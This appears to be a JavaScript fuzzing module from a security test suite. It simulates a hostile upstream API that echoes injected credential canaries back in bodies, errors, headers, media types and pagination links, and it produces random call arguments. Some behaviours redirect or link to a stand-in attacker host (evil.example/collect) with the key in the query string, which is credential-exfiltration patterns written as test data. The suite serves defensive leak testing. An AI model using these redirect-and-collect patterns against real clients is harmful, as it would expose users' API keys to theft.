// What the security suite throws at a capability: an upstream that misbehaves in every way the
// issue lists (echoing credentials in every form, in results and errors, in malformed JSON, in
// redirects and request ids; dropping connections), and random calls of any operation of a
// provider's table with random arguments and per-call credentials.
//
// A new feature adds its paths here: a retry joins the behaviours (a 429, a 503 with
// Retry-After), a refreshed token the credentials, pagination the results.
import { CORPUS, canary, echoForms, latin1Base64, unicodeEscapedJson } from "./corpus.mjs";

// What a header value may carry (Node refuses the rest).
const headerSafe = (s) => s.replace(/[^\x20-\x7e]/g, "");

/**
 * The credential an upstream request carried, as the upstream sees it: `authHeader` (or, for a
 * table with `authQuery`/`authCookie`/`authPair`, the query parameter, the cookie's value, the
 * basic pair's password).
 */
export function credentialOf(request, authHeader, table = {}) {
  // Several schemes (a key header, a bearer token): whichever this request carried.
  if (table.schemes?.length > 1) {
    for (const scheme of table.schemes) {
      const found = credentialOf(request, scheme.authHeader, scheme);
      if (found) return found;
    }
    return "";
  }
  if (table.authQuery) return new URL(request.url, "http://upstream").searchParams.get(table.authQuery) ?? "";
  const value = request.headers[authHeader.toLowerCase()] ?? "";
  if (table.authCookie) {
    // Its own cookie, among others a request may carry in the one header (credential parameters).
    const own = value.split("; ").find((c) => c.startsWith(`${table.authCookie}=`));
    return own ? own.slice(table.authCookie.length + 1) : value;
  }
  if (table.authPair && value.startsWith("Basic ")) {
    const pair = Buffer.from(value.slice(6), "base64").toString("latin1");
    return pair.slice(pair.indexOf(":") + 1);
  }
  return authHeader.toLowerCase() === "authorization" ? value.replace(/^(Bearer|Basic) /, "") : value;
}

/**
 * The response limit the suites set (`CAPA_LOOPBACK_BODY_LIMIT`): above the largest body another
 * behaviour sends (bigWithKeyAtEnd's ~250 KB), below every `overLimit` body.
 */
export const OVER_LIMIT = 320_000;

/** URLs whose last answer was a dropped connection (hostileReply). */
const down = new Set();

/**
 * The upstream's answer to `request`, one of its behaviours at random. `stats` counts them.
 * `authHeader`: where the credential travels; `contextHeaders`: per-call context headers.
 */
export function hostileReply(r, request, { authHeader, contextHeaders = [], stats, table = {} }) {
  // The key, or now and then a credential header sent with it (a secret header): echoed in
  // every form alike.
  const withKey = Object.keys(table.authHeaders ?? {}).map((h) => request.headers[h.toLowerCase()]).filter(Boolean);
  const key = withKey.length && r.chance(0.5) ? r.pick(withKey) : credentialOf(request, authHeader, table);
  // What carried it: the header, or for a key in the query the whole query string.
  const header = table.authQuery ? request.url : (request.headers[authHeader.toLowerCase()] ?? "");
  const context = contextHeaders.map((h) => request.headers[h.toLowerCase()]).filter(Boolean);
  const forms = Object.fromEntries(echoForms(key));
  const pick = r.pick(Object.keys(forms));
  const echo = { url: request.url, method: request.method, headers: request.headers, body: request.body, context };
  const behaviours = {
    echoJson: () => ({ status: 200, json: { ...echo, forms, header: forms } }),
    echoText: () => ({ status: 200, headers: { "content-type": "text/plain" }, body: `you sent ${header}; ${Object.values(forms).join(" | ")}` }),
    echoHtml: () => ({ status: 200, headers: { "content-type": "text/html" }, body: `<pre>${JSON.stringify(echo)}</pre><p>${forms[pick]}</p>` }),
    keyAsObjectKey: () => ({ status: 200, json: { [key]: 1, [forms.base64]: 2, [forms[pick]]: 3 } }),
    error4xx: () => ({
      status: r.pick([400, 401, 402, 403, 404, 409, 422, 429]),
      json: { error: { type: "invalid_request_error", message: `Invalid API Key provided: ${forms[pick]}; context ${context.join(",")}`, header, forms } },
    }),
    error5xx: () => ({ status: r.pick([500, 502, 503, 504]), headers: { "content-type": "text/html" }, body: `<h1>Oops</h1><pre>${JSON.stringify(echo)} ${forms[pick]}</pre>` }),
    malformedJson: () => ({ status: 200, headers: { "content-type": "application/json" }, body: `{"echo":"${key}","b64":"${forms.base64}","form":"${forms[pick]}"` }),
    malformedJsonError: () => ({ status: r.pick([400, 500]), headers: { "content-type": "application/json" }, body: `{"error":{"message":"bad key ${key}" ${forms[pick]}` }),
    redirectSameOrigin: () => ({ status: r.pick([301, 302, 303, 307, 308]), headers: { location: `/redirected/${r.int(1e6)}?key=${encodeURIComponent(key)}&b=${forms.base64url}` } }),
    redirectUserinfo: () => ({ status: 302, headers: { location: `http://${encodeURIComponent(key)}@127.0.0.1:1/x` } }),
    redirectAway: () => ({ status: r.pick([301, 302, 307]), headers: { location: headerSafe(`https://evil.example/collect?k=${forms[pick]}&raw=${encodeURIComponent(key)}&b64=${forms.base64}`) } }),
    requestIdEcho: () => ({ status: r.pick([200, 404]), headers: { "request-id": r.pick([key, forms.base64, forms[pick], `req_${context[0] ?? "none"}`]).replace(/[^\x20-\x7e]/g, "") }, json: { ok: 1 } }),
    unreachable: () => ({ destroy: true }),
    noContent: () => ({ status: 204 }),
    emptyJson: () => ({ status: 200, headers: { "content-type": "application/json" }, body: "" }),
    bigWithKeyAtEnd: () => ({ status: 200, json: { data: "x".repeat(150_000 + r.int(100_000)), tail: forms[pick] } }),
    slowEcho: () => ({ status: 200, delay: 1 + r.int(20), json: { echo: header, forms } }),
    plainOk: () => ({ status: 200, json: { id: "obj_1", object: "thing", context } }),
    // Bytes (a PDF, an archive): handed back as they came, or withheld when they hold a key.
    binaryEcho: () => ({ status: 200, headers: { "content-type": r.pick(["application/pdf", "application/octet-stream", "image/png"]) }, body: Buffer.concat([noise(r), Buffer.from(forms[pick], "latin1"), noise(r)]) }),
    binaryClean: () => ({ status: 200, headers: { "content-type": "application/zip" }, body: Buffer.concat([noise(r), Buffer.from(context.join(","))]) }),
    // Found by the attacker's run of issue 31. The key, or a context value, in the media type
    // (which an invalid body's message and a withheld body's `upstream.contentType` quote).
    mediaTypeEcho: () => {
      const inType = headerSafe(r.pick([key, forms[pick], context[0] ?? key]));
      return r.pick([
        { status: 200, headers: { "content-type": `application/vnd.${inType}+json` }, body: r.pick(["not json", `{"a":1`, key]) },
        { status: 200, headers: { "content-type": `application/x-${inType}` }, body: Buffer.concat([noise(r), Buffer.from(forms[pick], "latin1")]) },
        { status: 200, headers: { "content-type": `application/json; x=${inType}` }, body: "{bad" },
        { status: r.pick([400, 500]), headers: { "content-type": `text/${inType}` }, body: `bad ${forms[pick]}` },
      ]);
    },
    // Retries (src/retry.rs): a wall naming a wait, short or long, its body echoing the key; a
    // hint that overrules the status; an answer slower than an attempt may take. The hidden
    // ends of a retry (the 503 before the 200) reach no caller, and the last one is searched.
    rateLimited: () => ({ status: r.pick([429, 403]), headers: { "retry-after": r.pick(["0", "1", "120"]), "x-ratelimit-remaining": "0" }, json: { error: { message: `slow down ${forms[pick]}` } } }),
    hinted: () => ({ status: r.pick([400, 409, 503]), headers: { [r.pick(["x-should-retry", "stripe-should-retry"])]: r.pick(["true", "false"]) }, json: { error: { message: `hinted ${forms[pick]}` } } }),
    slowerThanAnAttempt: () => ({ status: 200, delay: 400, json: { late: forms[pick] } }),
    // Size limits (src/retry.rs): a body over the capability's limit (the suites lower it to
    // OVER_LIMIT), said by its Content-Length or not, the key at both ends and in its
    // request id: upstream_too_large, its rest unread, none of it shown.
    overLimit: () => {
      const fill = "k".repeat(OVER_LIMIT + r.int(OVER_LIMIT / 4));
      const text = r.pick([JSON.stringify({ head: forms[pick], fill, tail: key }), `${forms[pick]} ${fill} ${key}`]);
      const body = r.chance(0.3) ? Buffer.concat([noise(r), Buffer.from(text, "latin1")]) : text;
      const headers = { "content-type": r.pick(["application/json", "text/plain", "application/octet-stream"]), "request-id": headerSafe(r.pick([key, forms[pick], "req_over"])) };
      if (r.chance(0.5)) headers["content-length"] = String(Buffer.byteLength(body));
      return { status: r.pick([200, 200, 500]), headers, body };
    },
    // Pages (src/pages.rs): a list that goes on, its next page named by a cursor, a last item
    // or a Link that carries the key, its own origin or another's; items echo the key. A walk
    // follows only what stays on the call's origin and path, and shows none of it.
    pagedEcho: () => {
      const self = `http://${request.headers.host}${request.url.split("?")[0]}`;
      const link = r.pick([`<${self}?page=${2 + r.int(5)}>; rel="next"`, `<${self}?page=2&starting_after=${encodeURIComponent(key)}>; rel="next"`, `<https://evil.example/next?k=${encodeURIComponent(key)}>; rel="next"`, `<${self}?page=3&evil=${forms.base64}>; rel="next"`]);
      const data = [{ id: r.pick([`obj_${r.int(1e6)}`, forms[pick], key]), note: forms[pick] }, { id: `obj_${r.int(1e6)}`, context }];
      return { status: 200, headers: { link: headerSafe(link) }, json: { object: "list", has_more: r.chance(0.8), data, items: data, pagination: { cursor: r.pick([forms[pick], key, String(r.int(100))]) }, next_page: forms.base64, next_cursor: key } };
    },
    // Every letter a JSON `\u00XX` escape: the caller receives the key raw once it is parsed.
    unicodeEscapes: () => ({ status: r.pick([200, 200, 402, 500]), headers: { "content-type": "application/json" }, body: unicodeEscapedJson(r.pick([key, ...context])) }),
    // A JSON document quoted inside a JSON string, twice.
    nestedJson: () => ({ status: r.pick([200, 400]), json: { inner: JSON.stringify({ token: key, deeper: JSON.stringify({ token: key, header }) }), error: { message: JSON.stringify({ key }) } } }),
    // The request id carrying the key or a context value in an encoded form.
    requestIdForms: () => ({
      status: r.pick([200, 404]),
      headers: { "request-id": headerSafe(r.pick([forms["percent-every-byte"], forms["base64-of-percent"], forms["base64-of-base64"], forms.base64url, latin1Base64(context[0] ?? key), encodeURIComponent(context[0] ?? key), `req_${latin1Base64(`${context[0] ?? ""}:${key}`)}`])) },
      json: { ok: 1 },
    }),
  };
  // An endpoint that dropped a connection often drops the next one too (the call's retries), so
  // that calls end unreachable or timed out, not only recover.
  if (down.has(request.url) && r.chance(0.7)) {
    stats.downAgain = (stats.downAgain ?? 0) + 1;
    return { destroy: true };
  }
  // A GET is often a list, and a list often goes on: walks of pages get pages to walk.
  const name = request.method === "GET" && r.chance(0.3) ? "pagedEcho" : r.pick(Object.keys(behaviours));
  stats[name] = (stats[name] ?? 0) + 1;
  if (name === "unreachable") down.add(request.url);
  return behaviours[name]();
}

/** Random bytes, no UTF-8: what a binary body is made of. */
function noise(r) {
  return Buffer.from(Array.from({ length: r.int(64) }, () => r.int(256)));
}

const SCALAR_STRINGS = ["plain", "with space", "ü", "a&b=c", ...CORPUS.queryValues.values];

function scalar(r) {
  switch (r.int(6)) {
    case 0:
      return r.int(100000);
    case 1:
      return r.chance(0.5);
    case 2:
      return null;
    default:
      return r.pick(SCALAR_STRINGS);
  }
}

function nested(r, depth) {
  if (depth === 0 || r.chance(0.5)) return scalar(r);
  if (r.chance(0.4)) return Array.from({ length: r.int(3) }, () => nested(r, depth - 1));
  return Object.fromEntries(Array.from({ length: 1 + r.int(3) }, () => [r.chance(0.3) ? r.pick(CORPUS.queryValues.keys) : `k${r.int(10)}`, nested(r, depth - 1)]));
}

function valueFor(r, param) {
  if (param.at === "header") return r.chance(0.9) ? `v_${r.int(1e6)}` : r.pick(CORPUS.headerValues.refused);
  if (param.at === "query" && param.style === "form") return r.chance(0.8) ? scalar(r) : [scalar(r), scalar(r)];
  return nested(r, 3);
}

/**
 * Random per-call options: a fresh canary key, context headers (allowed names in any case,
 * context canaries), now and then a refused header name or value. `issued` collects the keys.
 */
export function randomOptions(r, table, issued) {
  if (r.chance(0.35)) return undefined;
  const auth = {};
  if (r.chance(0.6)) {
    auth.apiKey = r.chance(0.95) ? canary(r) : r.pick([...CORPUS.headerValues.refused, ...CORPUS.headerValues.refusedTypes]);
    if (typeof auth.apiKey === "string") issued.add(auth.apiKey);
    // A basic pair's tenants bring a user name with it (context), now and then without a key.
    if (table.authPair && r.chance(0.8)) auth.username = canary(r, "context");
  } else if (table.authPair && r.chance(0.2)) auth.username = canary(r, "context");
  if (r.chance(0.5)) {
    const headers = {};
    for (const name of table.callHeaders) {
      // A secret header (one sent with the key) carries a credential canary.
      const kind = table.secretCallHeaders?.includes(name) ? "apiSecret" : "context";
      if (r.chance(0.6)) headers[r.chance(0.5) ? name.toLowerCase() : name] = canary(r, kind);
    }
    if (r.chance(0.1)) headers[r.pick(CORPUS.headerNames.refused)] = canary(r);
    if (r.chance(0.05) && table.callHeaders.length) headers[table.callHeaders[0]] = r.pick(CORPUS.headerValues.refused);
    auth.headers = headers;
  }
  // Credential parameters per call (`options.auth.params`, by name): canaries like a per-call
  // key, now and then a value no header can carry or a name the provider does not have.
  if (table.credentialParams?.length && r.chance(0.4)) {
    const params = {};
    for (const name of table.credentialParams) {
      if (!r.chance(0.7)) continue;
      params[name] = r.chance(0.95) ? canary(r) : r.pick([...CORPUS.headerValues.refused, ...CORPUS.headerValues.refusedTypes]);
      if (typeof params[name] === "string") issued.add(params[name]);
    }
    if (r.chance(0.05)) params[`not_${table.credentialParams[0]}`] = canary(r);
    auth.params = params;
  }
  const options = { auth };
  // Now and then a walk of pages (refused with invalid_argument where the operation does not page).
  if (r.chance(0.15)) options.pages = r.pick([{}, { maxPages: 1 + r.int(3) }, { maxItems: 1 + r.int(5) }]);
  return options;
}

/** Random arguments for `op`: path values (now and then hostile), params, options. */
export function randomArgs(r, table, op, issued) {
  const args = op.pathParams.map(() => (r.chance(0.9) ? `id_${r.int(1e6)}` : r.pick(CORPUS.paths.values)));
  if (args.length && r.chance(0.02)) args.pop();
  let params;
  const whole = (op.body === "jsonValue" || op.body === "text") && op.params.length === 0;
  if (whole) params = op.body === "text" ? (r.chance(0.9) ? `text ${r.int(1e6)}` : { not: "text" }) : [nested(r, 2), nested(r, 2)];
  else if (op.params.length || op.open) {
    if (r.chance(0.85)) {
      params = {};
      for (const p of op.params) if ((p.required && r.chance(0.95)) || r.chance(0.2)) params[p.name] = valueFor(r, p);
      if (op.open && r.chance(0.3)) params[`extra_${r.int(100)}`] = nested(r, 2);
      if (r.chance(0.04)) params[`bogus_${r.int(100)}`] = 1;
    } else if (r.chance(0.3)) params = r.pick([7, "str", [1, 2]]);
  }
  let options = randomOptions(r, table, issued);
  // An operation that pages is now and then walked with params it takes (src/pages.rs).
  if (op.pages && r.chance(0.25)) {
    params = {};
    options = { ...(options ?? {}), pages: r.pick([{}, { maxPages: 2 + r.int(3) }, { maxItems: 2 + r.int(5) }]) };
  }
  if (options !== undefined) args.push(params ?? null, options);
  else if (params !== undefined) args.push(params);
  if (r.chance(0.01)) args.push("one too many", {});
  return args;
}

export { latin1Base64 };
